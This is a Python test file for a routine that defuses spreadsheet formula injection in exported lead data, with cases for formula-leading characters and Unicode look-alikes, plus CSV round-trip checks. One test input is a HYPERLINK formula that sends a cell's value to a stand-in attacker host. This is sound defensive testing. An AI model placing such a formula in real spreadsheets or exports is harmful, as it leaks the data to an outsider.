"""What somebody wrote into a form is no formula in a spreadsheet, and can be had back."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from succotash.domain.leads.spreadsheets import Cell, cell_text, csv_row, harmless
from tests.builders import at
from tests.strategies import texts


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\u00a0=1",
        "\u200b=1",
        "\ufeff=1",
        "\x01=1",
        "\uff1d1",  # full-width
        "\uff0b1",
        "\uff0d1",
        "\uff20A1",
        "\ufe661",  # small
        "\u22121",  # minus
        '=HYPERLINK("https://evil.example?x="&A1)',
        "\tplain",
        "'=1",
    ],
)
def test_a_text_that_could_run_begins_with_an_apostrophe(text: str) -> None:
    assert harmless(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Ada", "a=b", "ada@example.com", "1-2", "O'Neill", " a", '"'])
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@given(st.one_of(texts, st.text("=+-@'\t\n\r \u200bA\uff1d", max_size=6)))
def test_taking_one_apostrophe_away_gives_back_what_was_there(text: str) -> None:
    found = harmless(text)
    assert found.removeprefix("'") == text
    assert found.lstrip()[:1] not in {"=", "+", "-", "@"}


@given(st.lists(texts, min_size=1, max_size=5))
def test_any_reader_of_csv_reads_the_same_cells(cells: list[str]) -> None:
    line = csv_row(cells)
    assert line.endswith("\r\n")
    # A lone carriage return within a quoted cell is one of the reader's, too.
    [read] = csv.reader(io.StringIO(line, newline=""))
    assert read == [harmless(each) for each in cells]


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (True, "true"),
        (-5, "-5"),
        (1.5, "1.5"),
        (at("2024-05-06T12:00:00.5+02:00"), "2024-05-06T10:00:00.500000Z"),
        (["a", "=1"], '["a", "=1"]'),
        ({"größe": 1}, '{"größe": 1}'),
    ],
)
def test_what_is_no_text_has_one_way_to_be_written(value: Cell, text: str) -> None:
    assert cell_text(value) == text
